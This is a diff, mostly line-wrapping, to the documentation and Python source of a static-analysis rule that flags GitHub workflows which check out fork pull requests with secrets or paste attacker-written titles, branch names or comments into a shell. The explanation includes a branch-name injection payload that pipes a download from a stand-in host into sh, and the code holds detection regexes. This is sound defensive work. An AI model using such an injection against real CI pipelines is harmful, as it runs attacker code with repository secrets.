@@ -2,12 +2,14 @@
 
 ## What it finds
 
-GitHub workflows that start with the secrets and the writing token of the repository (`pull_request_target`, `workflow_run`, `issue_comment`), and check out
+GitHub workflows that start with the secrets and the writing token of the repository (`pull_request_target`, `workflow_run`,
+`issue_comment`), and check out
 the head of the pull request; and scripts that paste what a stranger wrote (title, branch name, comment) into a shell.
 
 ## Why it matters
 
-A pull request from a fork changes the build script, and the pipeline runs it with the secrets. A branch called `x";curl evil|sh;"` becomes a
+A pull request from a fork changes the build script, and the pipeline runs it with the secrets. A branch called `x";curl
+evil|sh;"` becomes a
 command.
 
 ## Bad
@@ -57,7 +59,8 @@ jobs:
 
 ## How to fix
 
-Build pull requests with `pull_request`, which has no secrets. What needs secrets runs in a second workflow that never checks out the change.
+Build pull requests with `pull_request`, which has no secrets. What needs secrets runs in a second workflow that never
+checks out the change.
 Hand over texts by `env`, never by pasting them into `run`.
 
 ## What it cannot see
@@ -82,11 +85,15 @@ from assay.plugins.rule import Rule
 from assay.rules.deliveries import GITHUB, DeliverySheet, looked_at
 
 SHEET = DeliverySheet("AP608", "insecure-ci-workflow")
-PRIVILEGED = frozenset({"pull_request_target", "workflow_run", "issue_comment", "issues", "discussion", "discussion_comment"})
+PRIVILEGED = frozenset(
+    {"pull_request_target", "workflow_run", "issue_comment", "issues", "discussion", "discussion_comment"}
+)
 HEAD = re.compile(
     r"github\.head_ref|pull_request\.head\.(?:sha|ref)|merge_commit_sha|refs/pull/|workflow_run\.(?:head_sha|head_branch|head_commit)|head\.repo\.full_name"
 )
-FETCHED = re.compile(r"\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|checkout|pull)\b[^\n]*(?:refs/pull/|pull/\$|pull_request\.head|head_ref|HEAD_SHA)")
+FETCHED = re.compile(
+    r"\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|checkout|pull)\b[^\n]*(?:refs/pull/|pull/\$|pull_request\.head|head_ref|HEAD_SHA)"
+)
 PASTED = re.compile(
     r"\$\{\{[^}]*\b(?:github\.event\.(?:issue|pull_request|discussion|comment|review|review_comment|head_commit|commits)[\w.*\[\]]*\.(?:title|body|message|ref|label|name|email)"
     r"|github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)|github\.head_ref)\b[^}]*\}\}"
@@ -108,7 +115,9 @@ def _verdict(pipeline: Pipeline) -> Verdict:
     symbol = f"{pipeline.path} strangers"
     faults = [fault for job in pipeline.jobs for fault in _faults(pipeline, job)]
     if not faults:
-        return SHEET.verdict(symbol, Outcome.PASS, f"{pipeline.path} runs nothing that strangers send with its secrets.", pipeline.place)
+        return SHEET.verdict(
+            symbol, Outcome.PASS, f"{pipeline.path} runs nothing that strangers send with its secrets.", pipeline.place
+        )
     severity, _, text = min(faults, key=lambda each: each[0].rank)
     steps = tuple(Step(told, task.place) for _, task, told in faults)
     return SHEET.failure(symbol, f"{pipeline.path}: {text}.", (severity, Confidence.FIRM), fix=FIX, steps=steps)
@@ -126,7 +135,11 @@ def _faults(pipeline: Pipeline, job: Job) -> Iterator[tuple[Severity, Task, str]
     for task in job.tasks:
         if PASTED.search(task.run):
             # A fork's pull request has neither secrets nor a writing token there, so that only the runner is at stake.
-            yield Severity.HIGH if privileged else Severity.MEDIUM, task, f"{job.name} pastes what a stranger wrote into a shell"
+            yield (
+                Severity.HIGH if privileged else Severity.MEDIUM,
+                task,
+                f"{job.name} pastes what a stranger wrote into a shell",
+            )
 
 
 def _is_of_stranger(task: Task) -> bool:
